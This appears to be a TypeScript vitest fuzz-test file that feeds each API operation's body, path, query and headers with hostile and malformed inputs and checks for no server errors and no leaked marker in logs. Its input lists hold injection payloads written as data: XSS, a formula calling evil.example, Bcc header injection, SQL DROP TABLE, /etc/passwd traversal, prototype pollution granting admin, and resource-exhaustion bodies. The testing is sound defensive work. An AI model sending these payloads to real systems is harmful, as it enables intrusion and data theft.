import './support/environment.ts'
import { beforeEach, describe, expect, it, vi } from 'vitest'
import type * as z from 'zod'
import { logger } from '../../functions/platform/telemetry.ts'
import { aDesk, type Call } from './support/desk.ts'
import { askedOf, type Everything, everything, prepared } from './support/everything.ts'
import type { Item } from './support/expression.ts'
import { type Asked, call, type OperationName, operationCalled, operationNames } from './support/gateway.ts'
import { MemoryTable } from './support/memory-table.ts'
import { type Shape, shapeOf, withAt } from './support/shape.ts'

vi.setConfig({ testTimeout: 120_000 })

const desk = aDesk()
/** In everything that is sent here, and in no log. */
const mark = 'xyzzyq'

/** Texts that have broken something somewhere, each in its own way. */
const texts = [
  `<script>alert('${mark}')</script>`,
  `"><img src=x onerror=alert(1)>${mark}`,
  `=HYPERLINK("https://evil.example?${mark}")`,
  `+${mark}|cmd`,
  `${mark}\r\nBcc: everybody@evil.example`,
  `${mark}\nSet-Cookie: a=b`,
  `${mark}\u202egpj.exe`,
  `${mark}\u2066\u200b\ufeff\u00ad`,
  `${mark}\ud800`,
  `\udc00${mark}`,
  `${mark}\u0000`,
  `${mark}\u001b[31m`,
  `${mark}${'\u0301'.repeat(5_000)}`,
  `${mark}'; DROP TABLE tickets; --`,
  `${mark}{{constructor.constructor('x')()}}`,
  `\${${mark}}%s%n%x`,
  `../../../../etc/passwd#${mark}`,
  `${mark}#EVENT#00000001`,
  `__proto__`,
  `constructor`,
  `toString`,
  `${mark}${'👩‍👩‍👧‍👦'.repeat(50)}`,
  `${'x'.repeat(30_000)}${mark}`,
  '',
  ' \t\n',
]
const numbers = [-1, 0, 1e308, -1e308, 2 ** 53, 1.5, 9e15]
const others = [null, true, [], {}, [[]], [null], { __proto__: null }, JSON.parse('{"__proto__":{"isAdmin":true}}')]

let built: { items: Item[]; all: Everything; ready: Map<OperationName, Item[]> } | undefined
let all: Everything
const lines: unknown[] = []

beforeEach(async () => {
  all = built?.all ?? (await everything(desk))
  built ??= { items: desk.table.items, all, ready: new Map() }
  put(built.items)
  lines.length = 0
  for (const level of ['debug', 'info', 'warn', 'error', 'critical'] as const) {
    vi.spyOn(logger, level).mockImplementation((...said: unknown[]) => {
      // An error is logged with its message and where it comes from.
      lines.push(...said.map((one) => (one instanceof Error ? `${one.message} ${one.stack}` : JSON.stringify(one))))
    })
  }
})

const writing: Call[] = ['TransactWrite', 'Update', 'Put', 'Delete', 'BatchWrite']
function put(items: readonly Item[]): void {
  desk.table = new MemoryTable()
  for (const item of items) desk.table.put(item)
  desk.calls = []
}

/** Where an operation's body may hold a text, a number or anything. */
function placesIn(shape: Shape, path: readonly string[] = []): (readonly string[])[] {
  const inside = [
    ...Object.entries(shape.properties ?? {}).flatMap(([field, one]) => placesIn(one, [...path, field])),
    ...(shape.items ? placesIn(shape.items, [...path, '0']) : []),
    ...(shape.anyOf ?? []).flatMap((one) => placesIn(one, path)),
    ...(typeof shape.additionalProperties === 'object' ? placesIn(shape.additionalProperties, [...path, mark]) : []),
  ]
  const own = path.length > 0 && !shape.properties ? [path] : []
  return [...new Map([...own, ...inside].map((one) => [one.join('.'), one])).values()]
}

/** The answer, as if nobody had asked before: whatever it is, no fault, and by its schema (`call`). */
async function survives(name: OperationName, asked: Asked, items: readonly Item[]): Promise<number> {
  if (desk.calls.some((made) => writing.includes(made))) put(items)
  const answer = await call(name, asked)
  if (answer.status >= 500)
    expect([name, asked.body, answer.status, lines]).toEqual([name, asked.body, 'an answer', []])
  for (const value of Object.values(answer.headers)) expect(value).toMatch(/^[\x20-\x7e]*$/)
  expect(answer.text.isWellFormed()).toBe(true)
  return answer.status
}

const bodied = operationNames.filter((name) => operationCalled(name).body && !operationCalled(name).text)

describe.each(bodied)('the body of %s', (name) => {
  it('may hold anything anywhere: it is taken or refused, and no log has it', async () => {
    const { body } = operationCalled(name)
    const ready = { ...all, ...(await prepared[name]?.(all)) }
    const items = desk.table.items
    const asked = askedOf(name, ready)
    expect(await survives(name, asked, items)).toBeLessThan(400)
    for (const path of placesIn(shapeOf(body as z.ZodType)))
      for (const value of [...texts, ...numbers, ...others])
        await survives(name, { ...asked, body: withAt(asked.body, path, value) }, items)
    expect(lines.filter((line) => String(line).includes(mark))).toEqual([])
  })

  it('may be anything but what it should be', async () => {
    const asked = askedOf(name, all)
    const deep = (open: string, close: string) => `${open.repeat(60_000)}1${close.repeat(60_000)}`
    const [field = 'x'] = Object.keys((asked.body as object | undefined) ?? {})
    const bodies = [
      '{',
      'null',
      '"text"',
      '[]',
      '1e400',
      '{"__proto__":{"role":"admin"}}',
      '{"constructor":{"prototype":{"role":"admin"}}}',
      `{"${mark}":1}`,
      `{"\\u0000":1,"\\ud800":2}`,
      deep('[', ']'),
      deep('{"a":', '}'),
      `{"${field}":${deep('[', ']')}}`,
      `{"${field}":${deep('{"a":', '}')}}`,
      `{"x":"${'\u0301'.repeat(5_000_000)}"}`,
      `{"${field}":[${'1,'.repeat(100_000)}1]}`,
      `{${Array.from({ length: 20_000 }, (_, at) => `"f${at}":1`).join()}}`,
    ]
    for (const body of bodies) {
      const status = await survives(
        name,
        { ...asked, body, headers: { ...asked.headers, 'idempotency-key': 'k' } },
        built?.items ?? [],
      )
      expect(status).toBeLessThan(500)
    }
    expect(({} as Record<string, unknown>).role).toBeUndefined()
  })
})

const headers = ['if-match', 'if-none-match', 'accept', 'content-type', 'idempotency-key']

/** The same call with a text in each place of its path, its query and its headers. */
function withText(name: OperationName, asked: Asked, text: string): Asked[] {
  const operation = operationCalled(name)
  const fields = [...Object.keys(operation.query?.shape ?? {}), mark, 'custom.x', '__proto__']
  return [
    ...Object.keys(operation.params?.shape ?? {}).map((one) => ({
      ...asked,
      params: { ...asked.params, [one]: text },
    })),
    ...fields.map((one) => ({ ...asked, query: JSON.parse(JSON.stringify({ ...asked.query, [one]: text })) })),
    ...headers.map((one) => ({ ...asked, headers: { ...asked.headers, [one]: text } })),
  ]
}

describe.each(operationNames)('%s', (name) => {
  it('takes or refuses anything in its path, its query and its headers', async () => {
    const odd = [...texts.filter((text) => text.length < 2000), '%00', '%', '9'.repeat(400), 'null', '-1', '1e9']
    for (const text of odd)
      for (const asked of withText(name, askedOf(name, all), text)) await survives(name, asked, built?.items ?? [])
    expect(lines.filter((line) => String(line).includes(mark))).toEqual([])
  })
})
